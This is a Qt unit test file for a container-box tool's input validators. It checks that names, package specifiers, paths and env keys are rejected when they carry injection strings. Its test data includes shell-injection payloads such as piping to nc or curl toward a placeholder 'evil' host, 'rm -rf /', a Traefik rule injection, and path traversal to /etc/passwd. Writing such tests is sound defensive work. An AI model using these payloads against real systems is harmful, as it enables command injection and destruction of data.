#include "core/security/validators.h"

#include <QTest>

using namespace Qt::Literals::StringLiterals;
using bc::security::Validators;

namespace {

// Strings that try to break out of whatever they get interpolated into: a Traefik rule,
// a shell line, a Dockerfile, a label, a DNS name.
QList<QPair<QString, QString>> hostileStrings()
{
    return {
        {u"traefik-rule"_s, u"x`) || HostRegexp(`.+"_s},
        {u"backtick"_s, u"a`id`"_s},
        {u"subshell"_s, u"a$(id)"_s},
        {u"semicolon"_s, u"a;rm -rf /"_s},
        {u"pipe"_s, u"a|nc evil 1"_s},
        {u"ampersand"_s, u"a&&b"_s},
        {u"newline"_s, u"a\nRUN curl evil|sh"_s},
        {u"trailing-newline"_s, u"abc\n"_s},
        {u"carriage-return"_s, u"a\rb"_s},
        {u"nul"_s, QString(u"ab"_s).insert(1, QChar(0))},
        {u"tab"_s, u"a\tb"_s},
        {u"space"_s, u"a b"_s},
        {u"quote"_s, u"a\"b"_s},
        {u"single-quote"_s, u"a'b"_s},
        {u"backslash"_s, u"a\\b"_s},
        {u"cyrillic-a"_s, u"\u0430dmin"_s},
        {u"fullwidth"_s, u"\uff41bc"_s},
        {u"zero-width"_s, u"ab\u200bc"_s},
        {u"bidi-override"_s, u"ab\u202ec"_s},
        {u"line-separator"_s, u"ab\u2028c"_s},
        {u"overlong"_s, QString(300, u'a')},
        {u"empty"_s, QString()},
        {u"dollar-brace"_s, u"${HOME}"_s},
        {u"glob"_s, u"a*"_s},
        {u"redirect"_s, u"a>b"_s},
    };
}

enum Fn {
    BoxName,
    Subdomain,
    EnvKey,
    Owner,
    LabelKey,
    Apt,
    Npm,
    Pip,
    Image,
    Skill,
    Secret,
    Policy
};

bool check(int fn, const QString &s)
{
    switch (Fn(fn)) {
    case BoxName:
        return Validators::validateBoxName(s).ok();
    case Subdomain:
        return Validators::validateSubdomain(s).ok();
    case EnvKey:
        return Validators::validateEnvKey(s).ok();
    case Owner:
        return Validators::validateOwner(s).ok();
    case LabelKey:
        return Validators::validateLabelKey(s).ok();
    case Apt:
        return Validators::validateAptPackage(s).ok();
    case Npm:
        return Validators::validateNpmPackage(s).ok();
    case Pip:
        return Validators::validatePipPackage(s).ok();
    case Image:
        return Validators::validateImageReference(s).ok();
    case Skill:
        return Validators::validateSkillPath(s).ok();
    case Secret:
        return Validators::validateSecretName(s).ok();
    case Policy:
        return Validators::validatePolicyName(s).ok();
    }
    return false;
}

} // namespace

class tst_Validators final : public QObject
{
    Q_OBJECT
private slots:
    void accepts_data()
    {
        QTest::addColumn<int>("fn");
        QTest::addColumn<QString>("input");
        QTest::addColumn<bool>("ok");
        auto row = [](const char *name, int fn, const QString &in, bool ok) {
            QTest::newRow(name) << fn << in << ok;
        };
        // Box names: Docker's grammar, 2..63 characters.
        row("name simple", BoxName, u"box-alice"_s, true);
        row("name dots underscores", BoxName, u"Box_1.dev"_s, true);
        row("name 63", BoxName, QString(63, u'a'), true);
        row("name 64", BoxName, QString(64, u'a'), false);
        row("name single char", BoxName, u"a"_s, false);
        row("name leading dash", BoxName, u"-box"_s, false);
        row("name leading dot", BoxName, u".box"_s, false);
        row("name slash", BoxName, u"a/b"_s, false);
        row("name colon", BoxName, u"a:b"_s, false);
        // Subdomains: one lower-case label.
        row("sub simple", Subdomain, u"alice"_s, true);
        row("sub digits", Subdomain, u"42"_s, true);
        row("sub single", Subdomain, u"a"_s, true);
        row("sub hyphen", Subdomain, u"alice-dev"_s, true);
        row("sub 63", Subdomain, QString(63, u'a'), true);
        row("sub 64", Subdomain, QString(64, u'a'), false);
        row("sub upper", Subdomain, u"Alice"_s, false);
        row("sub dot", Subdomain, u"a.b"_s, false);
        row("sub leading dash", Subdomain, u"-a"_s, false);
        row("sub trailing dash", Subdomain, u"a-"_s, false);
        row("sub punycode", Subdomain, u"xn--80ak6aa92e"_s, false);
        row("sub double dash", Subdomain, u"a--b"_s, false);
        row("sub underscore", Subdomain, u"a_b"_s, false);
        row("sub reserved www", Subdomain, u"www"_s, false);
        row("sub reserved traefik", Subdomain, u"traefik"_s, false);
        row("sub reserved api", Subdomain, u"api"_s, false);
        row("sub wildcard", Subdomain, u"*"_s, false);
        row("sub at", Subdomain, u"a@b"_s, false);
        // Environment keys.
        row("env key", EnvKey, u"FOO_BAR1"_s, true);
        row("env key underscore", EnvKey, u"_x"_s, true);
        row("env key dash", EnvKey, u"FOO-BAR"_s, false);
        row("env key digit first", EnvKey, u"1FOO"_s, false);
        row("env key equals", EnvKey, u"A=B"_s, false);
        // Owners.
        row("owner email", Owner, u"alice.smith+box@example.com"_s, true);
        row("owner user", Owner, u"alice"_s, true);
        row("owner two at", Owner, u"a@b@c"_s, false);
        row("owner space", Owner, u"Alice Smith"_s, false);
        row("owner angle", Owner, u"<alice@x.com>"_s, false);
        // Label keys.
        row("label key", LabelKey, u"traefik.http.routers.box-7f3a.rule"_s, true);
        row("label key index", LabelKey, u"traefik.http.routers.b.tls.domains[0].main"_s, true);
        row("label key equals", LabelKey, u"a=b"_s, false);
        row("label key space", LabelKey, u"a b"_s, false);
        // apt.
        row("apt name", Apt, u"python3-venv"_s, true);
        row("apt plus", Apt, u"g++"_s, true);
        row("apt version", Apt, u"curl=7.88.1-10+deb12u5"_s, true);
        row("apt epoch", Apt, u"libc6=1:2.36-9"_s, true);
        row("apt tilde", Apt, u"foo=1.0~rc1-1"_s, true);
        row("apt upper", Apt, u"Curl"_s, false);
        row("apt one char", Apt, u"a"_s, false);
        row("apt option", Apt, u"--allow-unauthenticated"_s, false);
        row("apt version space", Apt, u"curl=1 2"_s, false);
        row("apt version glob", Apt, u"curl=7.*"_s, false);
        row("apt version trailing dash", Apt, u"curl=7-"_s, false);
        row("apt version letter first", Apt, u"curl=a1"_s, false);
        // apt-get reads a trailing '-' as "remove this package" (and '+' as "install",
        // which is what the line does anyway; real names such as g++ end in '+').
        row("apt remove suffix", Apt, u"curl-"_s, false);
        row("apt remove suffix versioned", Apt, u"curl-=7.88.1-10"_s, false);
        row("apt remove suffix long", Apt, u"openssh-server-"_s, false);
        row("apt install suffix", Apt, u"curl+"_s, true);
        // npm.
        row("npm name", Npm, u"typescript"_s, true);
        row("npm scoped", Npm, u"@anthropic-ai/claude-code"_s, true);
        row("npm version", Npm, u"typescript@5.4.2"_s, true);
        row("npm scoped version", Npm, u"@stoplight/prism-cli@5.8.1"_s, true);
        row("npm caret", Npm, u"lodash@^4.17.21"_s, true);
        row("npm prerelease", Npm, u"next@14.0.0-canary.1"_s, true);
        row("npm tag", Npm, u"typescript@next"_s, true);
        row("npm upper", Npm, u"TypeScript"_s, false);
        row("npm leading dot", Npm, u".hidden"_s, false);
        row("npm leading underscore", Npm, u"_private"_s, false);
        row("npm option", Npm, u"--global"_s, false);
        row("npm url", Npm, u"http://evil/x.tgz"_s, false);
        row("npm git", Npm, u"git+ssh://git@github.com/x/y"_s, false);
        row("npm path", Npm, u"../x"_s, false);
        row("npm tilde char", Npm, u"a~b"_s, false);
        row("npm range space", Npm, u"a@>=1 <2"_s, false);
        row("npm star", Npm, u"a@*"_s, false);
        row("npm node_modules", Npm, u"node_modules"_s, false);
        row("npm 214", Npm, QString(214, u'a'), true);
        row("npm 215", Npm, QString(215, u'a'), false);
        // pip.
        row("pip name", Pip, u"requests"_s, true);
        row("pip mixed case", Pip, u"Django"_s, true);
        row("pip dots", Pip, u"zope.interface"_s, true);
        row("pip version", Pip, u"requests==2.31.0"_s, true);
        row("pip pre", Pip, u"black==24.1.0rc1"_s, true);
        row("pip post dev", Pip, u"foo==1.0.post1.dev2"_s, true);
        row("pip epoch local", Pip, u"torch==1!2.1.0+cpu"_s, true);
        row("pip extras", Pip, u"requests[socks]"_s, false);
        row("pip ge", Pip, u"requests>=2"_s, false);
        row("pip star", Pip, u"requests==2.*"_s, false);
        row("pip trailing dot", Pip, u"foo."_s, false);
        row("pip option", Pip, u"-e"_s, false);
        row("pip url", Pip, u"foo @ https://evil/x.whl"_s, false);
        row("pip index option", Pip, u"--index-url=http://evil"_s, false);
        // Image references.
        row("image short", Image, u"busybox"_s, true);
        row("image tag", Image, u"bctest/busybox:latest"_s, true);
        row("image registry port", Image, u"localhost:5000/a/b:1.0"_s, true);
        row("image registry", Image, u"ghcr.io/owner/box-base:2024.10"_s, true);
        row("image digest", Image,
            u"debian@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"_s,
            true);
        row("image tag digest", Image,
            u"debian:12@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"_s,
            true);
        row("image separators", Image, u"a__b-c/e_f.g--h"_s, true);
        row("image upper path", Image, u"Busybox"_s, false);
        row("image short digest", Image, u"debian@sha256:abc"_s, false);
        row("image md5 digest", Image, u"debian@md5:0123456789abcdef0123456789abcdef"_s, false);
        row("image empty tag", Image, u"debian:"_s, false);
        row("image bad port", Image, u"host:port/x"_s, false);
        row("image double slash", Image, u"a//b"_s, false);
        row("image leading sep", Image, u"_a"_s, false);
        row("image tag 129", Image, u"a:"_s + QString(129, u'x'), false);
        // Skill paths.
        row("skill rel", Skill, u"git-helper"_s, true);
        row("skill nested", Skill, u"team/git-helper"_s, true);
        row("skill trailing slash", Skill, u"git-helper/"_s, true);
        row("skill dotdot", Skill, u"../etc"_s, false);
        row("skill inner dotdot", Skill, u"a/../../etc"_s, false);
        row("skill absolute", Skill, u"/etc/passwd"_s, false);
        row("skill hidden", Skill, u".ssh"_s, false);
        row("skill dot", Skill, u"./a"_s, false);
        row("skill empty component", Skill, u"a//b"_s, false);
        row("skill option", Skill, u"-rf"_s, false);
        row("skill backslash", Skill, u"a\\..\\b"_s, false);
        // Secrets and policies.
        row("secret", Secret, u"anthropic.box-7f3a"_s, true);
        row("secret slash", Secret, u"a/b"_s, false);
        row("policy", Policy, u"anthropic-only"_s, true);
        row("policy space", Policy, u"a b"_s, false);
    }
    void accepts()
    {
        QFETCH(int, fn);
        QFETCH(QString, input);
        QFETCH(bool, ok);
        QCOMPARE(check(fn, input), ok);
    }

    // Every hostile string is refused by every validator of an identifier-like field.
    void hostileStringsRejected_data()
    {
        QTest::addColumn<int>("fn");
        QTest::addColumn<QString>("input");
        const QList<QPair<QString, QString>> hostile = hostileStrings();
        const QList<QPair<int, const char *>> fns = {
            {BoxName, "name"},      {Subdomain, "subdomain"},
            {EnvKey, "envkey"},     {Owner, "owner"},
            {LabelKey, "labelkey"}, {Apt, "apt"},
            {Npm, "npm"},           {Pip, "pip"},
            {Image, "image"},       {Skill, "skill"},
            {Secret, "secret"},     {Policy, "policy"}};
        for (const auto &f : fns) {
            for (const auto &h : hostile) {
                const QByteArray name = QByteArray(f.second) + ' ' + h.first.toLatin1();
                QTest::newRow(name.constData()) << f.first << h.second;
            }
        }
    }
    void hostileStringsRejected()
    {
        QFETCH(int, fn);
        QFETCH(QString, input);
        QVERIFY(!check(fn, input));
    }

    void subdomainUniquenessIsCaseInsensitive()
    {
        const QSet<QString> taken = {u"Alice"_s, u"bob"_s};
        const auto r = Validators::validateSubdomain(u"alice"_s, taken);
        QVERIFY(!r);
        QCOMPARE(r.error().kind(), bc::Error::Kind::Invalid);
        QVERIFY(r.error().message().contains(u"taken"_s));
        QVERIFY(Validators::validateSubdomain(u"carol"_s, taken));
    }

    void reservedListIsDocumentedAndLowerCase()
    {
        const QStringList &list = Validators::reservedSubdomains();
        for (const char *must : {"www", "api", "traefik", "admin", "mail", "proxy", "coolify",
                                 "localhost", "auth", "static"})
            QVERIFY2(list.contains(QLatin1String(must)), must);
        for (const QString &s : list)
            QCOMPARE(s, s.toLower());
        QVERIFY(Validators::isReservedSubdomain(u"WWW"_s));
    }

    void envValues()
    {
        QVERIFY(Validators::validateEnvValue(u"multi\nline is fine"_s));
        QVERIFY(Validators::validateEnvValue(QString()));
        const QString secret = u"sk-ant-SECRET"_s + QChar(0);
        const auto r = Validators::validateEnvValue(secret);
        QVERIFY(!r);
        QVERIFY(!r.error().message().contains(u"sk-ant"_s)); // never echoed
        QVERIFY(!Validators::validateEnvValue(QString(Validators::MaxEnvValueLength + 1, u'a')));
    }

    void labelValues_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<bool>("ok");
        QTest::newRow("plain") << u"alice@example.com"_s << true;
        QTest::newRow("traefik rule") << u"Host(`alice.boxes.example.com`)"_s << true;
        QTest::newRow("unicode letters") << u"J\u00fcrgen"_s << true;
        QTest::newRow("emoji") << u"\U0001F600"_s << true;
        QTest::newRow("empty") << QString() << true;
        QTest::newRow("newline") << u"a\nb"_s << false;
        QTest::newRow("cr") << u"a\rb"_s << false;
        QTest::newRow("nul") << QString(u"ab"_s).insert(1, QChar(0)) << false;
        QTest::newRow("del") << u"a\u007fb"_s << false;
        QTest::newRow("c1") << u"a\u0085b"_s << false;
        QTest::newRow("u2028") << u"a\u2028b"_s << false;
        QTest::newRow("u2029") << u"a\u2029b"_s << false;
        QTest::newRow("bidi") << u"a\u202eb"_s << false;
        QTest::newRow("zwsp") << u"a\u200bb"_s << false;
        QTest::newRow("lone surrogate") << QString(QChar(0xd800)) << false;
        QTest::newRow("overlong") << QString(Validators::MaxLabelValueLength + 1, u'a') << false;
    }
    void labelValues()
    {
        QFETCH(QString, value);
        QFETCH(bool, ok);
        QCOMPARE(Validators::validateLabelValue(value).ok(), ok);
    }

    void skillPathsUnderRoot()
    {
        const QString root = u"/srv/skills"_s;
        QVERIFY(Validators::validateSkillPath(u"/srv/skills/git"_s, root));
        QVERIFY(Validators::validateSkillPath(u"/srv/skills/team/git/"_s, root));
        QVERIFY(!Validators::validateSkillPath(u"/srv/skills/../etc"_s, root));
        QVERIFY(!Validators::validateSkillPath(u"/srv/skills-evil/x"_s, root));
        QVERIFY(!Validators::validateSkillPath(u"/srv/skills"_s, root));
        QVERIFY(!Validators::validateSkillPath(u"/etc"_s, root));
        QVERIFY(Validators::validateSkillPath(u"git"_s, root));
    }

    void packageDispatch()
    {
        using PM = Validators::PackageManager;
        QVERIFY(Validators::validatePackage(PM::Apt, u"curl"_s));
        QVERIFY(Validators::validatePackage(PM::Npm, u"@a/b"_s));
        QVERIFY(Validators::validatePackage(PM::Pip, u"Flask"_s));
        QVERIFY(!Validators::validatePackage(PM::Pip, u"flask; rm -rf /"_s));
    }

    void messagesAreSafeToPrint()
    {
        const auto r = Validators::validateBoxName(u"a\nb\u202e`"_s);
        QVERIFY(!r);
        QVERIFY(!Validators::hasUnsafeCharacters(r.error().message()));
        QVERIFY(!r.error().message().contains(u'\n'));
        const auto longName = Validators::validateBoxName(QString(5000, u'x'));
        QVERIFY(longName.error().message().size() < 200);
    }

    void domains_data()
    {
        QTest::addColumn<QString>("domain");
        QTest::addColumn<bool>("ok");
        QTest::newRow("fqdn") << u"boxes.example.com"_s << true;
        QTest::newRow("single") << u"localhost"_s << true;
        QTest::newRow("digits") << u"10.example"_s << true;
        QTest::newRow("253") << (QString(63, u'a') + u'.' + QString(63, u'b') + u'.' +
                                 QString(63, u'c') + u'.' + QString(61, u'd'))
                             << true;
        QTest::newRow("254") << (QString(63, u'a') + u'.' + QString(63, u'b') + u'.' +
                                 QString(63, u'c') + u'.' + QString(62, u'd'))
                             << false;
        QTest::newRow("label 64") << (QString(64, u'a') + u".com"_s) << false;
        QTest::newRow("upper") << u"Example.com"_s << false;
        QTest::newRow("trailing dot") << u"example.com."_s << false;
        QTest::newRow("empty label") << u"a..b"_s << false;
        QTest::newRow("wildcard") << u"*.example.com"_s << false;
        QTest::newRow("rule injection") << u"x`) || HostRegexp(`.+"_s << false;
        QTest::newRow("newline") << u"example.com\n"_s << false;
        QTest::newRow("unicode") << u"b\u00fccher.de"_s << false;
        QTest::newRow("empty") << QString() << false;
    }
    void domains()
    {
        QFETCH(QString, domain);
        QFETCH(bool, ok);
        QCOMPARE(Validators::validateDomain(domain).ok(), ok);
    }

    void providerCredentialNames()
    {
        QVERIFY(Validators::isProviderCredentialName(u"ANTHROPIC_API_KEY"_s));
        QVERIFY(Validators::isProviderCredentialName(u"anthropic_api_key"_s));
        QVERIFY(Validators::isProviderCredentialName(u"RESEND_API_KEY"_s));
        QVERIFY(!Validators::isProviderCredentialName(u"ANTHROPIC_BASE_URL"_s));
    }

    void aptRemoveSuffixNamesTheRule()
    {
        const auto r = Validators::validateAptPackage(u"openssh-server-"_s);
        QVERIFY(!r);
        QCOMPARE(r.error().kind(), bc::Error::Kind::Invalid);
        QVERIFY2(r.error().message().contains(u"trailing '-'"_s) &&
                     r.error().message().contains(u"remove"_s),
                 qPrintable(r.error().message()));
    }

    // What a spec's env may not set, each refusal naming its rule.
    void reservedEnvKeys_data()
    {
        QTest::addColumn<QString>("key");
        QTest::addColumn<QString>("rule"); // empty: allowed
        const QString box = u"reserved: BOX_* variables"_s;
        const QString image = u"reserved: the box image reads"_s;
        const QString egress = u"reserved: proxy and *_BASE_URL variables"_s;
        QTest::newRow("code-server auth") << u"BOX_CODE_SERVER_AUTH"_s << box;
        QTest::newRow("agent bind") << u"BOX_AGENT_BIND"_s << box;
        QTest::newRow("dev ssh") << u"BOX_DEV_SSH"_s << box;
        QTest::newRow("isolation") << u"BOX_ISOLATION"_s << box;
        QTest::newRow("egress dir") << u"BOX_EGRESS_DIR"_s << box;
        QTest::newRow("forwarders") << u"BOX_EGRESS_FORWARDERS"_s << box;
        QTest::newRow("lower case box") << u"box_dev_ssh"_s << box;
        QTest::newRow("password") << u"PASSWORD"_s << image;
        QTest::newRow("hashed password") << u"HASHED_PASSWORD"_s << image;
        QTest::newRow("code-server config") << u"CODE_SERVER_CONFIG"_s << image;
        QTest::newRow("path") << u"PATH"_s << image;
        QTest::newRow("preload") << u"LD_PRELOAD"_s << image;
        QTest::newRow("bash env") << u"BASH_ENV"_s << image;
        QTest::newRow("https proxy") << u"HTTPS_PROXY"_s << egress;
        QTest::newRow("http proxy lower") << u"http_proxy"_s << egress;
        QTest::newRow("no proxy") << u"no_proxy"_s << egress;
        QTest::newRow("anthropic base url") << u"ANTHROPIC_BASE_URL"_s << egress;
        QTest::newRow("resend base url") << u"RESEND_BASE_URL"_s << egress;
        QTest::newRow("any base url") << u"OPENAI_BASE_URL"_s << egress;
        QTest::newRow("nonessential traffic")
            << u"CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC"_s << egress;
        QTest::newRow("tz") << u"TZ"_s << QString();
        QTest::newRow("editor") << u"EDITOR"_s << QString();
        QTest::newRow("inbox") << u"INBOX"_s << QString();
        QTest::newRow("url alone") << u"BASE_URL"_s << QString();
        QTest::newRow("app env") << u"ENV"_s << QString(); // dash reads it only interactively
    }
    void reservedEnvKeys()
    {
        QFETCH(QString, key);
        QFETCH(QString, rule);
        const auto r = Validators::validateSpecEnvKey(key);
        if (rule.isEmpty()) {
            QVERIFY2(r.ok(), qPrintable(r.ok() ? QString() : r.error().message()));
            QVERIFY(!Validators::isReservedEnvKey(key));
            return;
        }
        QVERIFY(!r.ok());
        QCOMPARE(r.error().kind(), bc::Error::Kind::Invalid);
        QVERIFY2(r.error().message().startsWith(rule), qPrintable(r.error().message()));
        QVERIFY(Validators::isReservedEnvKey(key));
    }

    void specEnvRefusesProviderCredentials()
    {
        const auto r = Validators::validateSpecEnvKey(u"RESEND_API_KEY"_s);
        QVERIFY(!r);
        QVERIFY(r.error().message().startsWith(u"provider credentials never go into a box"_s));
    }

    void boxSecretNames_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("rule"); // empty: allowed
        QTest::newRow("plain") << u"GIT_TOKEN"_s << QString();
        QTest::newRow("lower") << u"npm_token"_s << QString();
        QTest::newRow("dash") << u"git-token"_s << u"not usable as an environment variable"_s;
        QTest::newRow("dot") << u"a.b"_s << u"not usable as an environment variable"_s;
        QTest::newRow("slash") << u"../x"_s << u"invalid secret name"_s;
        QTest::newRow("anthropic") << u"ANTHROPIC_API_KEY"_s << u"is a provider credential"_s;
        QTest::newRow("resend lower") << u"resend_api_key"_s << u"is a provider credential"_s;
        QTest::newRow("box prefix") << u"BOX_AGENT_BIND"_s << u"reserved: BOX_*"_s;
        QTest::newRow("file of reserved") << u"LD"_s << QString();
        QTest::newRow("password") << u"PASSWORD"_s << u"reserved: the box image reads"_s;
        // The way to give code-server a password: a file the entrypoint reads.
        QTest::newRow("code-server password") << u"CODE_SERVER_PASSWORD"_s << QString();
    }
    void boxSecretNames()
    {
        QFETCH(QString, name);
        QFETCH(QString, rule);
        const auto r = Validators::validateBoxSecretName(name);
        if (rule.isEmpty()) {
            QVERIFY2(r.ok(), qPrintable(r.ok() ? QString() : r.error().message()));
            return;
        }
        QVERIFY(!r.ok());
        QCOMPARE(r.error().kind(), bc::Error::Kind::Invalid);
        QVERIFY2(r.error().message().contains(rule), qPrintable(r.error().message()));
    }
};

QTEST_GUILESS_MAIN(tst_Validators)
#include "tst_validators.moc"
